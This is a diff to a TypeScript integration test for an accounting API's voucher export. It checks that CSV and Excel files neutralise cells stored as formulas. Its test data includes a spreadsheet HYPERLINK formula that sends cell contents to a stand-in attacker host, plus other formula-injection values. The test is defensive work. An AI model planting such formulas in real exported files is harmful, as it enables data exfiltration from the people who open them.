@@ -1,5 +1,6 @@
 import { randomUUID } from 'node:crypto';
 import { sql } from 'drizzle-orm';
+import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { MENSAJES_COMPROBANTES } from '@eds/contracts/conciliacion/comprobantes';
 import { MENSAJES_CONTABILIDAD as MC } from '@eds/contracts/conciliacion/contabilidad';
@@ -116,6 +117,46 @@ describe('GET SI:v1/posting/voucher: the day vouchers with their balance check',
     } finally {
       await t.database.db.execute(
         sql`UPDATE comprobantes_lineas SET debito = debito - 0.01 WHERE comprobante_id = ${propio} AND orden = 1`,
+      );
+    }
+  });
+});
+
+describe('the voucher file never carries a live formula', () => {
+  it('a third party, description or cost centre stored as a formula comes out neutralised; the amounts stay numbers', async () => {
+    const id = dias.hermana.comprobante;
+    const antes = await fila<{ tercero: string | null; descripcion: string | null; centro_costo: string | null }>(
+      t.database.db,
+      sql`SELECT tercero, descripcion, centro_costo FROM comprobantes_lineas WHERE comprobante_id = ${id} AND orden = 1`,
+    );
+    const tercero = '=HYPERLINK("http://atacante.example/?d="&A1,"Ver soporte")';
+    await t.database.db.execute(
+      sql`UPDATE comprobantes_lineas SET tercero = ${tercero}, descripcion = '@SUM(1+1)', centro_costo = '-10'
+           WHERE comprobante_id = ${id} AND orden = 1`,
+    );
+    try {
+      const r = await admin('GET', `/api/v1/posting/voucher/${id}/file?formato=csv`);
+      expect(r.statusCode, r.body).toBe(200);
+      const [, primera] = r.body.replace(/^\uFEFF/, '').split('\r\n');
+      // comprobante, fecha, estacion, linea, cuenta, then the three neutralised cells, then debit and credit as numbers.
+      expect(primera).toMatch(
+        /^\d+(\.00)?,\d{4}-\d\d-\d\d,[^,]+,1(\.00)?,\d+,'-10,"'=HYPERLINK\(""http:\/\/atacante\.example\/\?d=""&A1,""Ver soporte""\)",'@SUM\(1\+1\),\d+\.\d\d,\d+\.\d\d$/,
+      );
+      // No cell of the file begins as a formula.
+      for (const linea of r.body.split('\r\n')) expect(linea).not.toMatch(/(^|,)"?[=+@-]/);
+
+      // The Excel file keeps the text as text: a string cell, not a formula.
+      const xlsx = await admin('GET', `/api/v1/posting/voucher/${id}/file?formato=xlsx`);
+      expect(xlsx.statusCode).toBe(200);
+      const libro = new ExcelJS.Workbook();
+      await libro.xlsx.load(new Uint8Array(xlsx.rawPayload).buffer);
+      const celda = libro.worksheets[0].getRow(2).getCell(7);
+      expect(celda.type).toBe(ExcelJS.ValueType.String);
+      expect(celda.value).toBe(tercero);
+    } finally {
+      await t.database.db.execute(
+        sql`UPDATE comprobantes_lineas SET tercero = ${antes!.tercero}, descripcion = ${antes!.descripcion}, centro_costo = ${antes!.centro_costo}
+             WHERE comprobante_id = ${id} AND orden = 1`,
       );
     }
   });
